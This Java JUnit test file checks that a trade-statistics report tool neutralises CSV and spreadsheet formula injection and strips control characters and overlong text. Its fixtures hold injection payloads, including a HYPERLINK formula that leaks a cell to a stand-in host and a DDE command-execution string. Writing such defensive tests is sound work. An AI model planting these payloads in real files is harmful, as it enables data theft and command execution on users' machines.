package org.tradestat.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.CellType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tradestat.ingest.CsvRecord;

/**
 * Untrusted text stays text. Sources, titles, file names and rejected lines that start with {@code = + - @}, a tab or
 * a carriage return never become formulas: in the workbook they are STRING cells, and in rejects.csv and
 * indicators.csv such a field starts with an apostrophe (OWASP's advice on CSV injection), numbers aside. Control
 * characters and text longer than a cell holds (32,767 characters) are cleaned or cut with a marker, and the
 * workbook still opens.
 */
class UntrustedTextTest {

    static final String DATE = "2024-12-31";
    static final List<String> PAYLOADS = List.of("HYPERLINK(\"http://evil.example", "+1+2", "-3+4", "@SUM(1+1)",
            "cmd|' /C calc'!A0", "=5+5", "=6+6", "=7*7");
    /** What a cell may start with to become a formula in a spreadsheet program (OWASP). */
    static final Pattern RISKY_START = Pattern.compile("^[=+\\-@\t\r].*", Pattern.DOTALL);
    static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    @TempDir
    Path temp;
    Path input;
    Path output;

    @BeforeEach
    void folders() throws IOException {
        input = Files.createDirectories(temp.resolve("input"));
        output = temp.resolve("reports");
    }

    Harness.Result run() {
        return Harness.runInProcess(Harness.args(DATE, input, output, temp.resolve("db"), "--max-reject-rate", "1"));
    }

    @Test
    void formulasInSourcesTitlesFileNamesAndRejectedLinesStayText() throws IOException {
        Files.writeString(input.resolve("=1+2.csv"), """
                reporter,partner,period,flow,value_usd,commodity,qualifier,source
                KAZ,KOR,2016,export,100,TOTAL,,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"
                KAZ,KOR,2017,export,110,TOTAL,,+1+2
                KAZ,KOR,2018,export,120,TOTAL,,-3+4
                KAZ,KOR,2019,export,130,TOTAL,,@SUM(1+1)
                KAZ,KOR,2020,export,140,TOTAL,,"=cmd|' /C calc'!A0"
                KAZ,KOR,2021,export,150,TOTAL,,"\t=5+5"
                KAZ,KOR,2022,export,160,TOTAL,,"\r=6+6"
                =1+1,KOR,2016,export,5,TOTAL,,rejected
                -2+3,KOR,2016,export,5,TOTAL,,rejected
                @SUM(1),KOR,2016,export,5,TOTAL,,rejected
                +1,KOR,2016,export,5,TOTAL,,rejected
                \t=3,KOR,2016,export,5,TOTAL,,rejected
                """, StandardCharsets.UTF_8);
        Files.writeString(input.resolve("events.csv"), """
                date,country_a,country_b,category,level,title,count,source
                2023-05-10,KGZ,KOR,visit,minister,"=HYPERLINK(""http://evil.example"",""x"")",1,=7*7
                2023-06-10,KGZ,KOR,visit,minister,@SUM(1+1),1,-3+4
                """, StandardCharsets.UTF_8);
        Harness.Result run = run();
        assertThat(run.exitCode()).as(run.toString()).isZero();
        Harness.assertNoStackTrace(run);
        Path dir = output.resolve(DATE);

        List<Harness.CellText> cells = Harness.workbookCells(dir.resolve("tradestat-" + DATE + ".xlsx"));
        for (String payload : PAYLOADS) {
            List<Harness.CellText> holding = cells.stream().filter(c -> c.text().contains(payload)).toList();
            assertThat(holding).as("cells holding %s", payload).isNotEmpty()
                    .allSatisfy(c -> assertThat(c.type()).as("%s!%s: %s", c.sheet(), c.ref(), c.text())
                            .isEqualTo(CellType.STRING));
        }
        assertThat(cells).as("rejected lines starting with =, - and @ are shown, as text")
                .anyMatch(c -> c.type() == CellType.STRING && c.text().startsWith("=1+1,KOR"))
                .anyMatch(c -> c.type() == CellType.STRING && c.text().startsWith("-2+3,KOR"))
                .anyMatch(c -> c.type() == CellType.STRING && c.text().startsWith("@SUM(1),KOR"));
        assertThat(cells.stream().filter(c -> c.type() == CellType.FORMULA))
                .as("formula cells built from input text")
                .noneMatch(c -> PAYLOADS.stream().anyMatch(p -> c.text().contains(p.replace("=", "")))
                        || c.text().contains("evil") || c.text().contains("1+1"));

        List<CsvRecord> rejects = Harness.csv(dir.resolve("rejects.csv"));
        assertThat(rejects).hasSize(5);
        assertNoRiskyField(rejects, "rejects.csv");
        assertThat(rejects).extracting(r -> r.fields().get(0)).containsOnly("'=1+2.csv");
        assertThat(rejects).extracting(r -> r.fields().get(3)).containsExactlyInAnyOrder(
                "'=1+1,KOR,2016,export,5,TOTAL,,rejected", "'-2+3,KOR,2016,export,5,TOTAL,,rejected",
                "'@SUM(1),KOR,2016,export,5,TOTAL,,rejected", "'+1,KOR,2016,export,5,TOTAL,,rejected",
                "'\t=3,KOR,2016,export,5,TOTAL,,rejected");
        List<CsvRecord> indicators = Harness.csv(dir.resolve("indicators.csv"));
        assertThat(indicators).isNotEmpty();
        assertNoRiskyField(indicators, "indicators.csv");
        assertThat(indicators).as("negative numbers stay numbers")
                .anyMatch(r -> r.fields().get(7).startsWith("-") && NUMBER.matcher(r.fields().get(7)).matches());
    }

    @Test
    void controlCharactersAndOverlongTextAreCleanedOrCutAndTheWorkbookOpens() throws IOException {
        String longSource = "L".repeat(40_000);
        String longTitle = "T".repeat(40_000);
        StringBuilder trade = new StringBuilder("reporter,partner,period,flow,value_usd,commodity,qualifier,source\n");
        trade.append("KAZ,KOR,2020,export,100,TOTAL,,\"wire\u0007service\u001b[0m and\u0000nul\u007fdel\u0085nel\"\n");
        trade.append("KAZ,KOR,2021,export,100,TOTAL,,").append(longSource).append('\n');
        // 40 different sources of 1,000 characters each (after cutting): more text than one cell holds, together
        for (int i = 0; i < 40; i++) {
            trade.append("UZB,KOR,").append(1980 + i).append(",export,").append(100 + i).append(",TOTAL,,Source ")
                    .append(i).append(' ').append("s".repeat(2_000)).append('\n');
        }
        Files.writeString(input.resolve("trade.csv"), trade, StandardCharsets.UTF_8);
        Files.writeString(input.resolve("events.csv"),
                "date,country_a,country_b,category,level,title,count,source\n"
                        + "2023-05-10,KGZ,KOR,visit,minister,\"bell\u0007 esc\u001b[31m line\nbreak tab\tnul\u0000\",1,"
                        + "\"event\u0007source\"\n"
                        + "2023-06-10,KGZ,KOR,visit,minister," + longTitle + ",1," + longSource.replace('L', 'E') + "\n",
                StandardCharsets.UTF_8);
        Harness.Result run = run();
        assertThat(run.exitCode()).as(run.toString()).isZero();
        Harness.assertNoStackTrace(run);

        List<Harness.CellText> cells = Harness.workbookCells(output.resolve(DATE + "/tradestat-" + DATE + ".xlsx"));
        assertThat(cells).allSatisfy(c -> assertThat(c.text().length()).as("%s!%s", c.sheet(), c.ref())
                .isLessThanOrEqualTo(32_767));
        List<Harness.CellText> sources = cells.stream()
                .filter(c -> c.text().contains("wire") || c.text().contains("event") && c.text().contains("source")
                        || c.text().contains("LLLL") || c.text().contains("EEEE") || c.text().contains("bell"))
                .toList();
        assertThat(sources).as("cells showing the sources and titles").isNotEmpty()
                .allSatisfy(c -> assertThat(c.text().chars().filter(ch -> ch < 0x20 && ch != '\n' || ch == 0x7f
                        || ch == 0x85)).as("control characters in %s!%s", c.sheet(), c.ref()).isEmpty());
        assertThat(sources).as("the 40,000-character source, cut with a marker")
                .anyMatch(c -> c.text().contains("LLLL") && !c.text().contains("L".repeat(1_001))
                        && c.text().contains("[…]"));
        assertThat(String.join("\n", cells.stream().map(Harness.CellText::text).toList()))
                .as("text after the control characters is kept").contains("service").contains("Source 39");
    }

    /** Every field that a spreadsheet program would take for a formula starts with an apostrophe or is a number. */
    static void assertNoRiskyField(List<CsvRecord> rows, String file) {
        for (CsvRecord r : rows) {
            for (String field : r.fields()) {
                if (RISKY_START.matcher(field).matches()) {
                    assertThat(field).as("%s line %d: a field that a spreadsheet would run as a formula", file, r.line())
                            .matches(NUMBER);
                }
            }
        }
    }
}
